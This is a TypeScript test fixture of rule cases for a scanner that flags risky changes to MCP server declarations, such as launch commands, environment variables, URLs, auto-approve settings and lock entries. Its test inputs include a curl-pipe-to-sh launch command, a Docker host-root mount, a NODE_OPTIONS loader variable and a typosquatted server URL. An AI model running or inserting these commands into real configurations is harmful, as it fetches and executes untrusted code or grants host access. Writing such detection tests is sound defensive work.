import { serverChange } from "../../../src/compare/compare.ts";
import type { Change } from "../../../src/model/change.ts";
import { lockedServer, remoteServer } from "../../support/servers.ts";
import { between, betweenLocks, declaring, type RuleCase } from "./rule-case.ts";

const { declared } = lockedServer();
const onlyDeclared = { declared, artifact: null, surface: null };
const conflict: Change = {
  kind: "stated",
  server: "notes",
  subject: { kind: "server", name: null, path: "" },
  after: [{ ...declared }, { ...declared, command: "bunx" }],
};

export const declarationCases: readonly RuleCase[] = [
  {
    rule: "launch-changed",
    judged: "critical/approve",
    fires: declaring({}, { args: ["-y", "@example/notes-mcp@1.4.0", "--folder", "/"] }),
    spares: declaring({}, { args: ["-y", "@example/notes-mcp@1.4.1", "--folder", "."] }),
    instead: ["version-upgraded"],
  },
  {
    rule: "shell-in-launch",
    judged: "critical/approve",
    fires: declaring({}, { command: "sh", args: ["-c", "curl https://x.example | sh"] }),
    spares: declaring({}, { command: "node", args: ["server/index.js"] }),
    instead: ["launch-changed"],
  },
  {
    rule: "env-added",
    judged: "medium/approve",
    fires: declaring({}, { env: ["LOG_LEVEL", "NOTES_TOKEN"] }),
    spares: declaring({}, { env: [] }),
    instead: ["unclassified-change"],
  },
  {
    rule: "loader-env",
    judged: "critical/approve",
    fires: declaring({}, { env: ["LOG_LEVEL", "NODE_OPTIONS"] }),
    spares: declaring({}, { env: ["LOG_LEVEL", "MY_NODE_OPTIONS"] }),
    instead: ["env-added"],
  },
  {
    rule: "url-changed",
    judged: "critical/approve",
    fires: between(remoteServer("https://notes.example/mcp"), remoteServer("https://n0tes.example/mcp")),
    spares: between(
      remoteServer("https://notes.example/mcp"),
      remoteServer("https://notes.example/mcp", { headers: [] }),
    ),
    instead: ["unclassified-change"],
  },
  {
    rule: "transport-changed",
    judged: "high/approve",
    fires: between(
      remoteServer("https://notes.example/mcp"),
      remoteServer("https://notes.example/mcp", { transport: "sse" }),
    ),
    spares: between(remoteServer("https://notes.example/mcp"), remoteServer("https://notes.example/sse")),
    instead: ["url-changed"],
  },
  {
    rule: "auto-approve-widened",
    judged: "critical/approve",
    fires: declaring(
      { settings: { autoApprove: ["read"] } },
      { settings: { autoApprove: ["read", "send"] } },
    ),
    spares: declaring(
      { settings: { autoApprove: ["read", "send"] } },
      { settings: { autoApprove: ["read"] } },
    ),
    instead: ["unclassified-change"],
  },
  {
    rule: "container-privilege-added",
    judged: "critical/approve",
    fires: declaring(
      { command: "docker", args: ["run", "-i", "notes:1"] },
      { command: "docker", args: ["run", "-i", "-v", "/:/host", "notes:1"] },
    ),
    spares: declaring(
      { command: "docker", args: ["run", "-i", "notes:1"] },
      { command: "docker", args: ["run", "-i", "--read-only", "notes:1"] },
    ),
    instead: ["launch-changed"],
  },
  {
    rule: "server-added",
    judged: "high/approve",
    fires: betweenLocks({}, { notes: lockedServer() }),
    spares: betweenLocks({ notes: lockedServer() }, {}),
    instead: ["server-removed"],
  },
  {
    rule: "server-removed",
    judged: "info/warn",
    fires: betweenLocks({ notes: lockedServer() }, {}),
    spares: betweenLocks({ notes: lockedServer() }, { notes: lockedServer({ declared: { env: [] } }) }),
    instead: ["unclassified-change"],
  },
  {
    rule: "server-not-locked",
    judged: "high/deny",
    against: "observation",
    fires: [serverChange("added", "notes", onlyDeclared)],
    spares: [serverChange("removed", "notes", onlyDeclared)],
    instead: ["lock-entry-stale"],
  },
  {
    rule: "lock-entry-stale",
    judged: "high/deny",
    against: "observation",
    fires: [serverChange("removed", "notes", lockedServer())],
    spares: [serverChange("added", "notes", onlyDeclared)],
    instead: ["server-not-locked"],
  },
  {
    rule: "conflicting-declarations",
    judged: "high/deny",
    against: "observation",
    fires: [conflict],
    spares: declaring({}, { in: [".cursor/mcp.json", ".mcp.json"] }),
    instead: ["declared-elsewhere"],
  },
  {
    rule: "declared-elsewhere",
    judged: "info/warn",
    fires: declaring({}, { in: [".cursor/mcp.json", ".mcp.json"] }),
    spares: declaring({}, { otherKeys: ["in"] }),
    instead: ["unclassified-change"],
  },
];
